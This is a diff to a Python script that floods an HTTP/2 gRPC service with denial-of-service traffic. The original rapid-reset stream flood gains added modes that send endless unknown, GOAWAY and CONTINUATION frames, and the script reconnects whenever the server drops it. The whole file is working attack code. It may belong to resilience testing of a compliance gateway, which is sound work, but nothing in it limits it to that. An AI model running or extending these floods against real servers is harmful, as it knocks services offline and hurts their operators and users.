@@ -1,6 +1,8 @@
-"""Opens streams and resets them without end, at the address that is given: `python reset_flood.py 127.0.0.1:50051`."""
+"""Sends frames of HTTP/2 without end, of a kind and to the address that are given: `python frame_flood.py 127.0.0.1:50051
+resets`, for streams that are opened and reset."""
 
 import contextlib
+import itertools
 import socket
 import struct
 import sys
@@ -8,7 +10,7 @@ import threading
 import time
 
 PATH = b"/compliance_gateway.v1.ComplianceAssignmentService/ListComplianceAssignments"
-DATA, HEADERS, RESET, SETTINGS = 0, 1, 3, 4
+DATA, HEADERS, RESET, SETTINGS, GOAWAY, CONTINUATION, UNKNOWN = 0, 1, 3, 4, 7, 9, 200
 END_HEADERS, END_STREAM, ACK = 4, 1, 1
 STREAMS, PIECE = 200_000, 1 << 20
 CANCEL = struct.pack(">I", 8)
@@ -23,8 +25,13 @@ def literal(index: bytes, value: bytes) -> bytes:
     return index + bytes([len(value)]) + value
 
 
-BLOCK = b"\x83\x86" + literal(b"\x04", PATH) + literal(b"\x01", b"x") + literal(b"\x0f\x10", b"application/grpc")
-BLOCK += literal(b"\x00\x02te", b"trailers")
+def block_of(path: bytes) -> bytes:
+    """The header block of a call without a token."""
+    fields = literal(b"\x04", path), literal(b"\x01", b"x"), literal(b"\x0f\x10", b"application/grpc")
+    return b"\x83\x86" + b"".join(fields) + literal(b"\x00\x02te", b"trailers")
+
+
+BLOCK = block_of(PATH)
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
 
 
@@ -39,6 +46,15 @@ def resets(streams: int) -> bytes:
     )
 
 
+# What comes after the preface, and what then: resets once, since no stream comes twice, and again and again what means nothing.
+FLOODS = {
+    "resets": lambda: (b"", resets(STREAMS)),
+    "unknown": lambda: (b"", frame(UNKNOWN, 0, 0, bytes(16_000)) * 65),
+    "goaway": lambda: (b"", frame(GOAWAY, 0, 0, bytes(1_000)) * 1_000),
+    "continuation": lambda: (frame(HEADERS, 0, 1, BLOCK), frame(CONTINUATION, 0, 1, b"\0\1a\x7f\1" + b"b" * 128) * 7_000),
+}
+
+
 def drain(one: socket.socket) -> None:
     """A server stops reading from who does not read its answers."""
     with contextlib.suppress(OSError):
@@ -46,16 +62,16 @@ def drain(one: socket.socket) -> None:
             pass
 
 
-def flood(address: str) -> None:
-    """Comes again as soon as it is thrown out or through. Says so whenever more streams are on their way."""
+def flood(address: str, kind: str) -> None:
+    """Comes again as soon as it is thrown out or through. Says so whenever more is on its way."""
     host, port = address.split(":")
-    data = resets(STREAMS)
+    first, data = FLOODS[kind]()
     while True:
         try:
             with socket.create_connection((host, int(port))) as one:
                 threading.Thread(target=drain, args=[one], daemon=True).start()
-                one.sendall(PREFACE)
-                for start in range(0, len(data), PIECE):
+                one.sendall(PREFACE + first)
+                for start in range(0, len(data), PIECE) if kind == "resets" else itertools.repeat(0):
                     one.sendall(data[start : start + PIECE])
                     print("more", flush=True)
         except OSError:
@@ -63,4 +79,4 @@ def flood(address: str) -> None:
 
 
 if __name__ == "__main__":
-    flood(sys.argv[1])
+    flood(*sys.argv[1:])
